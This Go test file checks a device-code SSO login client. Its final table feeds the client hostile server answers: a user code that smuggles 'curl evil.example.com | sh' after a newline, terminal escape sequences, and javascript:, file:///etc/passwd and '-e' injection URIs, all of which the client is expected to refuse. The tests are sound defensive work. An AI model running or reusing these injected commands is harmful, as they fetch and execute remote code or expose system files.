// A person logs in on another device.

package sso_test

import (
	"context"
	"errors"
	"net/url"
	"strings"
	"testing"
	"time"

	"gprxy/auth/authtest"
	"gprxy/auth/sso"
)

func TestLoginOnAnotherDevice(t *testing.T) {
	t.Parallel()
	iss := authtest.Start(t, authtest.Options{DeviceInterval: time.Second, Audiences: []string{"https://db.example.com"}})
	c := configFor(iss)
	c.Audience = "https://db.example.com"
	var prompt sso.Prompt
	tokens, err := sso.LoginDevice(short(t), c, func(p sso.Prompt) error {
		prompt = p
		go func() {
			waitFor(t, "the first poll", func() bool { return iss.Grants("device_code") > 0 })
			if err := iss.Approve(p.UserCode, "bob"); err != nil {
				t.Error(err)
			}
		}()
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if id := requireGood(t, iss, c.Audience, tokens); id.User != "bob@example.com" || tokens.User != id.User || tokens.Refresh == "" {
		t.Errorf("got %+v", tokens)
	}
	if left := time.Until(prompt.Expires); prompt.URL != iss.URL()+authtest.DevicePath ||
		!strings.Contains(prompt.CompleteURL, prompt.UserCode) || left < 9*time.Minute || left > 10*time.Minute {
		t.Errorf("the prompt is %+v", prompt)
	}
}

func TestDeviceRefused(t *testing.T) {
	t.Parallel()
	iss := authtest.Start(t, authtest.Options{DeviceInterval: time.Second})
	_, err := sso.LoginDevice(short(t), configFor(iss), func(p sso.Prompt) error { return iss.Deny(p.UserCode) })
	requireError[*sso.DeniedError](t, err, []string{"refused", "the person denied", "gprxy login"})

	broken := errors.New("no terminal")
	_, err = sso.LoginDevice(short(t), configFor(iss), func(sso.Prompt) error { return broken })
	if !errors.Is(err, broken) {
		t.Errorf("got the error %v", err)
	}
}

func TestDeviceCodeExpires(t *testing.T) {
	t.Parallel()
	iss := authtest.Start(t, authtest.Options{DeviceInterval: time.Second, DeviceLife: 2 * time.Second})
	_, err := sso.LoginDevice(short(t), configFor(iss), func(sso.Prompt) error { return nil })
	requireError[*sso.DeniedError](t, err, []string{"not entered and approved in time", "--device"})
}

func TestDeviceOutage(t *testing.T) {
	t.Parallel()
	for name, mode := range map[string]authtest.Mode{"down": authtest.Down, "failing": authtest.Failing} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			iss := authtest.Start(t, authtest.Options{DeviceInterval: time.Second})
			tokens, err := sso.LoginDevice(short(t), configFor(iss), func(p sso.Prompt) error {
				iss.SetModeAt(authtest.TokenPath, mode)
				go func() {
					waitFor(t, "a poll during the outage", func() bool { return iss.Requests(authtest.TokenPath) > 0 })
					iss.SetMode(authtest.Up)
					if err := iss.Approve(p.UserCode, "bob"); err != nil {
						t.Error(err)
					}
				}()
				return nil
			})
			if err != nil || tokens.User != "bob@example.com" {
				t.Errorf("got %+v, error %v", tokens, err)
			}
		})
	}
}

func TestCtrlCEndsTheDeviceLogin(t *testing.T) {
	t.Parallel()
	iss := authtest.Start(t, authtest.Options{DeviceInterval: 30 * time.Second})
	ctx, cancel := context.WithCancel(t.Context())
	began := time.Now()
	_, err := sso.LoginDevice(ctx, configFor(iss), func(sso.Prompt) error { cancel(); return nil })
	if !errors.Is(err, context.Canceled) || time.Since(began) > 5*time.Second {
		t.Errorf("got the error %v after %v", err, time.Since(began))
	}

	iss.SetModeAt(authtest.DeviceCodePath, authtest.Slow)
	ctx, cancel = context.WithCancel(t.Context())
	go func() {
		waitFor(t, "the request for a code", func() bool { return iss.Requests(authtest.DeviceCodePath) == 2 })
		cancel()
	}()
	_, err = sso.LoginDevice(ctx, configFor(iss), nil)
	if !errors.Is(err, context.Canceled) || time.Since(began) > 8*time.Second {
		t.Errorf("got the error %v after %v", err, time.Since(began))
	}
}

func TestDeviceAnswersThatCannotBeShown(t *testing.T) {
	good := map[string]any{"device_code": "device-secret", "user_code": "ABCD-EFGH", "verification_uri": "https://login.example.com/device",
		"interval": 1, "expires_in": 1}
	for _, test := range []struct {
		field string
		value any
		says  string // empty: it is accepted
	}{
		{"interval", 1, ""},
		{"interval", -1, ""},
		{"interval", 1 << 60, ""},
		{"expires_in", -5, ""},
		{"expires_in", 0, ""},
		{"expires_in", 1 << 40, ""},
		{"device_code", "", "no device code"},
		{"user_code", "", "user code"},
		{"user_code", "AB\x1b]0;evil\a", "user code"},
		{"user_code", "AB\ncurl evil.example.com | sh", "user code"},
		{"user_code", strings.Repeat("A", 1000), "user code"},
		{"verification_uri", "", "verification_uri"},
		{"verification_uri", "http://evil.example.com", "https://"},
		{"verification_uri", "javascript:alert(1)", "verification_uri"},
		{"verification_uri", "file:///etc/passwd", "verification_uri"},
		{"verification_uri", "-e evil", "verification_uri"},
		{"verification_uri_complete", "https://login.example.com/\x1b[2J", "verification_uri_complete"},
		{"user_code", []int{1}, "standard"},
	} {
		s := newStub(t)
		s.answers["/device"] = func(url.Values) (int, any) {
			answer := map[string]any{}
			for name, value := range good {
				answer[name] = value
			}
			answer[test.field] = test.value
			return 200, answer
		}
		s.answers["/token"] = func(url.Values) (int, any) { return 400, map[string]any{"error": "access_denied"} }
		ctx, cancel := context.WithCancel(short(t))
		shown := false
		_, err := sso.LoginDevice(ctx, s.config(), func(p sso.Prompt) error {
			shown = true
			if left := time.Until(p.Expires); left > time.Hour || p.Expires.IsZero() {
				t.Errorf("%s %v: the code holds for %v", test.field, test.value, left)
			}
			time.AfterFunc(100*time.Millisecond, cancel) // the wait for the first question has begun
			return nil
		})
		cancel()
		if test.says == "" {
			if !shown || err == nil {
				t.Errorf("%s %v: shown %v, error %v", test.field, test.value, shown, err)
			}
			continue
		}
		requireError[*sso.UnreachableError](t, err, []string{test.says}, "device-secret", "\x1b", "\n")
		if shown {
			t.Errorf("%s %v was shown", test.field, test.value)
		}
	}
}
